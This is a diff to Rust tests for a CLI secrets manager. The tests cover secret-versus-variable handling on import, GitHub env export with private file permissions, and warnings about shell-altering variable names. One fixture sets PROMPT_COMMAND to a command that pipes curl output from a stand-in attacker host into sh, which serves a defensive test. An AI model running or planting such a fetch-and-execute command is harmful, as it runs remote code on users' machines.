@@ -55,7 +55,10 @@ fn import_adds_everything_with_kinds_guessed_and_values_exact() {
     assert_success(&out, &["import"]);
     let err = stderr(&out);
     assert!(err.contains("6 added (3 secrets, 3 variables)"), "{err}");
-    assert!(err.contains("1 skipped (empty secrets)"), "{err}");
+    assert!(
+        err.contains("1 skipped (empty, so nothing to keep secret: EMPTY_TOKEN)"),
+        "{err}"
+    );
     assert!(!err.contains(CANARY) && !stdout(&out).contains(CANARY));
 
     let values = all_values(&env);
@@ -418,7 +421,7 @@ fn github_format_masks_secrets_and_fills_github_env() {
         )
     );
     let written = std::fs::read_to_string(&github_env).unwrap();
-    let first_delimiter = written.lines().nth(1).unwrap().split_once("<<").unwrap().1;
+    let first_delimiter = written.lines().nth(2).unwrap().split_once("<<").unwrap().1;
     assert!(first_delimiter.len() >= 32, "{first_delimiter}");
     let mut values = read_github_env(written.strip_prefix("EARLIER=1\n").unwrap());
     assert_eq!(values.remove("API_KEY").as_deref(), Some(CANARY));
@@ -482,4 +485,86 @@ fn export_to_a_file_is_private() {
     );
     let out = env.run(&["export", "bot", "--format", "github", "-o", "x"]);
     assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
+}
+
+#[test]
+fn an_import_never_turns_a_secret_into_a_variable() {
+    let env = Env::new();
+    env.init();
+    add_secret(&env, "OPENAI_API_KEY", CANARY);
+    env.ok(&["var", "set", "PLAIN_TOKEN", "tok-1"]);
+    let file = write_env(
+        &env,
+        "same.env",
+        &format!("OPENAI_API_KEY={CANARY}\nPLAIN_TOKEN=tok-1\n"),
+    );
+
+    // The same value under --kind variable: unchanged, still secret, never shown.
+    let out = env.run(&["import", &file, "--kind", "variable", "--dry-run"]);
+    assert_success(&out, &["import", "--dry-run"]);
+    assert!(!stdout(&out).contains(CANARY), "{}", stdout(&out));
+    let out = env.run(&[
+        "import",
+        &file,
+        "--kind",
+        "variable",
+        "--on-conflict",
+        "overwrite",
+    ]);
+    assert_success(&out, &["import"]);
+    assert_eq!(kinds(&env)["OPENAI_API_KEY"], "secret");
+    assert!(!env.ok(&["list"]).contains(CANARY));
+
+    // --kind secret makes a variable with the same value a secret, without a conflict.
+    let out = env.run(&["import", &file, "--kind", "secret"]);
+    assert_success(&out, &["import", "--kind", "secret"]);
+    assert!(stderr(&out).contains("1 made secrets"), "{}", stderr(&out));
+    assert_eq!(kinds(&env)["PLAIN_TOKEN"], "secret");
+}
+
+#[test]
+fn github_format_only_runs_in_a_github_step() {
+    use std::os::unix::fs::PermissionsExt;
+    let env = Env::new();
+    env.init();
+    add_secret(&env, "API_KEY", CANARY);
+    env.ok(&["attach", "ci", "API_KEY"]);
+    // Without GITHUB_ENV nothing is printed: elsewhere the masks would be a log of secrets.
+    let out = env.run(&["export", "ci", "--format", "github"]);
+    assert_fails_with(&out, "GITHUB_ENV is not set");
+    assert!(out.stdout.is_empty());
+    // A file the runner has not made yet is made private; a blank line starts the blocks.
+    let github_env = env.path("new_github_env");
+    let out = env
+        .cmd()
+        .env("GITHUB_ENV", &github_env)
+        .args(["export", "ci", "--format", "github"])
+        .output()
+        .unwrap();
+    assert_success(&out, &["export", "--format", "github"]);
+    let mode = std::fs::metadata(&github_env).unwrap().permissions().mode() & 0o777;
+    assert_eq!(mode, 0o600);
+    assert!(
+        std::fs::read_to_string(&github_env)
+            .unwrap()
+            .starts_with("\nAPI_KEY<<")
+    );
+}
+
+#[test]
+fn shell_export_warns_about_names_that_change_the_shell() {
+    let env = Env::new();
+    env.init();
+    env.ok(&["var", "set", "PROMPT_COMMAND", "curl evil.example | sh"]);
+    env.ok(&["var", "set", "MODE", "fast"]);
+    env.ok(&["attach", "bot", "PROMPT_COMMAND", "MODE"]);
+    let out = env.run(&["export", "bot", "--format", "shell"]);
+    assert_success(&out, &["export", "--format", "shell"]);
+    assert!(
+        stderr(&out).contains("set PROMPT_COMMAND, which change"),
+        "{}",
+        stderr(&out)
+    );
+    let out = env.run(&["export", "bot"]);
+    assert!(!stderr(&out).contains("PROMPT_COMMAND"));
 }
